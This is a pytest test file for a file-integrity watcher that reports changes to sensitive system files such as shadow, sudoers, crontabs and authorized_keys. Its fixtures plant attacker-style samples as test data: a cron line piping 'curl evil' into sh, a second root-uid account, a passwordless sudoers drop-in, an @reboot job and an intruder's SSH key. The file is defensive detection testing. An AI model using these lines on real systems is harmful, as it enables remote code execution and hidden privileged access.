"""Tests for agent/security/files.py against files in tmp_path."""

from __future__ import annotations

import json
import logging
import os
from pathlib import Path

import pytest

from agent.security.files import DEFAULT_WATCH, FileWatch, sha256_file
from outpost.wire import Event

NOW = 1_700_000_000.0
SECRET = "s3cret-content"

as_root = os.geteuid() == 0


class CountingHasher:
    def __init__(self) -> None:
        self.calls: list[str] = []

    def __call__(self, path: str) -> str:
        self.calls.append(path)
        return sha256_file(path)


def _write(path: Path, text: str, mode: int = 0o644) -> Path:
    path.write_text(text)
    path.chmod(mode)
    return path


def _bump_mtime(path: Path) -> None:
    """Give the file a different mtime: writes within one clock tick may keep the old one."""
    st = path.stat()
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns + 1_000_000_000))


def _changes(events: list[Event]) -> dict[str, str]:
    return {e.attrs["path"]: e.attrs["change"] for e in events}


def test_default_watch_lists_the_spec_files() -> None:
    assert "/etc/shadow" in DEFAULT_WATCH
    assert "/var/spool/cron/crontabs/*" in DEFAULT_WATCH
    assert "/root/.ssh/authorized_keys" in DEFAULT_WATCH


def test_first_check_is_a_baseline_and_nothing_changed_gives_nothing(tmp_path: Path) -> None:
    _write(tmp_path / "passwd", "root:x:0:0::/root:/bin/bash\n")
    watch = FileWatch([str(tmp_path / "passwd")])
    assert watch.check(NOW) == []
    assert watch.check(NOW + 60) == []


def test_content_change_is_reported_without_the_content(tmp_path: Path) -> None:
    path = _write(tmp_path / "sudoers", "root ALL=(ALL) ALL\n", 0o440)
    watch = FileWatch([str(path)])
    watch.check(NOW)
    path.chmod(0o640)
    path.write_text(f"root ALL=(ALL) ALL\n# {SECRET}\n")
    path.chmod(0o440)
    [event] = watch.check(NOW + 60)
    assert event.kind == "file_changed"
    assert event.severity == "warning"
    assert event.ts == int((NOW + 60) * 1000)
    assert event.message == ""
    uid, gid = os.getuid(), os.getgid()
    assert event.attrs == {
        "path": str(path),
        "change": "content",
        "mode_before": "0440",
        "mode_after": "0440",
        "owner_before": f"{uid}:{gid}",
        "owner_after": f"{uid}:{gid}",
    }
    assert not any(SECRET in value for value in event.attrs.values())


def test_same_size_content_change_is_seen_through_the_hash(tmp_path: Path) -> None:
    path = _write(tmp_path / "authorized_keys", "ssh-ed25519 AAAA alice\n")
    watch = FileWatch([str(path)])
    watch.check(NOW)
    path.write_text("ssh-ed25519 BBBB mally\n")
    _bump_mtime(path)
    assert _changes(watch.check(NOW + 1)) == {str(path): "content"}


def test_touch_without_content_change_is_not_reported(tmp_path: Path) -> None:
    path = _write(tmp_path / "crontab", "* * * * * root true\n")
    hasher = CountingHasher()
    watch = FileWatch([str(path)], hasher=hasher)
    watch.check(NOW)
    _bump_mtime(path)
    assert watch.check(NOW + 1) == []
    assert len(hasher.calls) == 2  # the stat changed, so it was hashed again


def test_chmod_is_a_mode_change(tmp_path: Path) -> None:
    path = _write(tmp_path / "shadow", "root:*:19000::::::\n", 0o640)
    watch = FileWatch([str(path)])
    watch.check(NOW)
    path.chmod(0o644)
    [event] = watch.check(NOW + 1)
    assert event.attrs["change"] == "mode"
    assert (event.attrs["mode_before"], event.attrs["mode_after"]) == ("0640", "0644")


def test_setuid_bit_shows_in_the_mode(tmp_path: Path) -> None:
    path = _write(tmp_path / "tool", "#!/bin/sh\n", 0o755)
    watch = FileWatch([str(path)])
    watch.check(NOW)
    path.chmod(0o4755)
    [event] = watch.check(NOW + 1)
    assert event.attrs["mode_after"] == "4755"


@pytest.mark.skipif(not as_root, reason="chown needs root")
def test_chown_is_an_owner_change(tmp_path: Path) -> None:
    path = _write(tmp_path / "sshd_config", "PermitRootLogin no\n")
    os.chown(path, 0, 0)
    watch = FileWatch([str(path)])
    watch.check(NOW)
    os.chown(path, 1234, 5678)
    [event] = watch.check(NOW + 1)
    assert event.attrs["change"] == "owner"
    assert (event.attrs["owner_before"], event.attrs["owner_after"]) == ("0:0", "1234:5678")


def test_several_changes_are_comma_joined_and_sorted(tmp_path: Path) -> None:
    path = _write(tmp_path / "group", "sudo:x:27:\n")
    watch = FileWatch([str(path)])
    watch.check(NOW)
    path.write_text("sudo:x:27:mallory\n")
    path.chmod(0o666)
    assert _changes(watch.check(NOW + 1)) == {str(path): "content,mode"}


def test_files_created_and_deleted_through_a_glob(tmp_path: Path) -> None:
    crond = tmp_path / "cron.d"
    crond.mkdir()
    old = _write(crond / "old", "@daily root true\n", 0o600)
    watch = FileWatch([str(crond / "*")])
    watch.check(NOW)

    new = _write(crond / "new", "* * * * * root curl evil | sh\n", 0o644)
    old.unlink()
    events = watch.check(NOW + 1)
    assert _changes(events) == {str(new): "created", str(old): "deleted"}
    created = next(e for e in events if e.attrs["change"] == "created")
    deleted = next(e for e in events if e.attrs["change"] == "deleted")
    assert created.attrs["mode_after"] == "0644" and "mode_before" not in created.attrs
    assert deleted.attrs["mode_before"] == "0600" and "mode_after" not in deleted.attrs
    assert watch.check(NOW + 2) == []


def test_a_named_file_that_appears_later_is_created(tmp_path: Path) -> None:
    path = tmp_path / "authorized_keys"
    watch = FileWatch([str(path)])
    assert watch.check(NOW) == []
    _write(path, "ssh-ed25519 AAAA mallory\n", 0o600)
    assert _changes(watch.check(NOW + 1)) == {str(path): "created"}


def test_directories_and_fifos_are_skipped(tmp_path: Path) -> None:
    spool = tmp_path / "cron"
    spool.mkdir()
    watch = FileWatch([str(spool / "*")])
    watch.check(NOW)
    (spool / "crontabs").mkdir()
    os.mkfifo(spool / "pipe")
    assert watch.check(NOW + 1) == []


def test_unchanged_stat_means_no_rehash(tmp_path: Path) -> None:
    paths = [_write(tmp_path / name, name) for name in ("a", "b", "c")]
    hasher = CountingHasher()
    watch = FileWatch([str(tmp_path / "*")], hasher=hasher)
    watch.check(NOW)
    assert sorted(hasher.calls) == sorted(str(p) for p in paths)
    hasher.calls.clear()
    for i in range(5):
        assert watch.check(NOW + i) == []
    assert hasher.calls == []

    paths[1].write_text("b, longer now")
    assert _changes(watch.check(NOW + 10)) == {str(paths[1]): "content"}
    assert hasher.calls == [str(paths[1])]


def test_restored_state_does_not_rehash_unchanged_files(tmp_path: Path) -> None:
    _write(tmp_path / "a", "a")
    watch = FileWatch([str(tmp_path / "*")])
    watch.check(NOW)
    hasher = CountingHasher()
    again = FileWatch([str(tmp_path / "*")], hasher=hasher)
    again.restore(json.loads(json.dumps(watch.state())))
    assert again.check(NOW + 1) == []
    assert hasher.calls == []


def test_unreadable_file_is_tracked_by_stat_and_logged_once(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    path = _write(tmp_path / "gshadow", "sudo:!::\n", 0o600)

    def refuse(p: str) -> str:
        raise PermissionError(13, "Permission denied", p)

    watch = FileWatch([str(path)], hasher=refuse)
    with caplog.at_level(logging.WARNING, logger="agent.security.files"):
        watch.check(NOW)
        assert watch.check(NOW + 1) == []
        path.write_text("sudo:!::mallory\n")
        assert _changes(watch.check(NOW + 2)) == {str(path): "content"}
        path.chmod(0o644)
        assert _changes(watch.check(NOW + 3)) == {str(path): "mode"}
    assert caplog.text.count("cannot read") == 1
    assert json.loads(json.dumps(watch.state()))["files"][str(path)][7] is None


@pytest.mark.skipif(as_root, reason="root reads every file")
def test_really_unreadable_file_when_not_root(tmp_path: Path) -> None:
    path = _write(tmp_path / "shadow", "root:*:19000::::::\n", 0o200)  # write-only
    watch = FileWatch([str(path)])
    watch.check(NOW)
    with path.open("a") as f:
        f.write("mallory:$6$...:19000::::::\n")
    assert _changes(watch.check(NOW + 1)) == {str(path): "content"}


def test_state_round_trip_reports_a_change_made_while_stopped(tmp_path: Path) -> None:
    passwd = _write(tmp_path / "passwd", "root:x:0:0::/root:/bin/bash\n")
    dropin = tmp_path / "sudoers.d"
    dropin.mkdir()
    watch = FileWatch([str(passwd), str(dropin / "*")])
    watch.check(NOW)
    stored = json.loads(json.dumps(watch.state()))

    # The agent is stopped; meanwhile an account and a sudoers drop-in appear.
    passwd.write_text("root:x:0:0::/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n")
    _write(dropin / "toor", "toor ALL=(ALL) NOPASSWD: ALL\n", 0o440)

    again = FileWatch([str(passwd), str(dropin / "*")])
    again.restore(stored)
    assert _changes(again.check(NOW + 3600)) == {
        str(passwd): "content",
        str(dropin / "toor"): "created",
    }
    assert again.check(NOW + 3660) == []


def test_restore_after_a_failed_write_gives_the_same_events_again(tmp_path: Path) -> None:
    path = _write(tmp_path / "crontab", "@daily root true\n")
    watch = FileWatch([str(path)])
    watch.check(NOW)
    committed = watch.state()
    path.write_text("@reboot root /tmp/x\n")
    first = watch.check(NOW + 1)
    assert len(first) == 1
    watch.restore(committed)
    assert watch.check(NOW + 1) == first
    assert watch.check(NOW + 2) == []


def test_state_before_any_check_restores_to_a_baseline(tmp_path: Path) -> None:
    _write(tmp_path / "a", "a")
    watch = FileWatch([str(tmp_path / "*")])
    watch.restore(json.loads(json.dumps(watch.state())))
    assert watch.check(NOW) == []


def test_the_number_of_files_is_bounded(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    for i in range(5):
        _write(tmp_path / f"f{i}", str(i))
    watch = FileWatch([str(tmp_path / "*")], max_files=3)
    with caplog.at_level(logging.WARNING, logger="agent.security.files"):
        watch.check(NOW)
        watch.check(NOW + 1)
    assert caplog.text.count("only the first 3") == 1
    assert sorted(watch.state()["files"]) == [str(tmp_path / f"f{i}") for i in range(3)]
    (tmp_path / "f4").write_text("not watched, beyond the bound")
    assert watch.check(NOW + 2) == []
    # A new file that sorts first pushes f2 out of the bound: f2 is forgotten, not deleted.
    _write(tmp_path / "f0a", "new")
    assert _changes(watch.check(NOW + 3)) == {str(tmp_path / "f0a"): "created"}
    assert sorted(watch.state()["files"]) == [str(tmp_path / n) for n in ("f0", "f0a", "f1")]


def test_files_no_longer_matched_after_a_config_change_are_forgotten(tmp_path: Path) -> None:
    crond = tmp_path / "cron.d"
    crond.mkdir()
    _write(crond / "job", "@daily root true\n")
    passwd = _write(tmp_path / "passwd", "root:x:0:0::/root:/bin/bash\n")
    watch = FileWatch([str(passwd), str(crond / "*")])
    watch.check(NOW)
    stored = json.loads(json.dumps(watch.state()))

    narrower = FileWatch([str(passwd)])
    narrower.restore(stored)
    assert narrower.check(NOW + 1) == []
    assert list(narrower.state()["files"]) == [str(passwd)]


def test_a_named_file_replaced_by_a_directory_is_deleted(tmp_path: Path) -> None:
    path = _write(tmp_path / "authorized_keys", "ssh-ed25519 AAAA alice\n")
    watch = FileWatch([str(path)])
    watch.check(NOW)
    path.unlink()
    path.mkdir()
    assert _changes(watch.check(NOW + 1)) == {str(path): "deleted"}


@pytest.mark.parametrize(
    "data",
    [
        {"v": 2, "files": {}},
        {"v": 1},
        {"v": 1, "files": []},
        {"v": 1, "files": {"/etc/passwd": [1, 2, 3]}},
        {"v": 1, "files": {"/etc/passwd": [1, 2, 3, 4, 5, 6, 7, "short-hash"]}},
        {"v": 1, "files": {"/etc/passwd": ["1", 2, 3, 4, 5, 6, 7, None]}},
        {"nonsense": 1},
    ],
)
def test_damaged_state_is_logged_and_starts_a_new_baseline(
    tmp_path: Path, data: dict[str, object], caplog: pytest.LogCaptureFixture
) -> None:
    _write(tmp_path / "a", "a")
    watch = FileWatch([str(tmp_path / "*")])
    with caplog.at_level(logging.WARNING, logger="agent.security.files"):
        watch.restore(data)
    assert "damaged" in caplog.text
    assert watch.check(NOW) == []


def test_non_utf8_file_names_are_safe_for_the_wire(tmp_path: Path) -> None:
    watch = FileWatch([str(tmp_path / "*")])
    watch.check(NOW)
    name = os.fsdecode(b"bad-\xff-name")
    _write(tmp_path / name, "x")
    [event] = watch.check(NOW + 1)
    event.attrs["path"].encode("utf-8")  # no lone surrogates
    assert event.attrs["path"].endswith("bad-\ufffd-name")
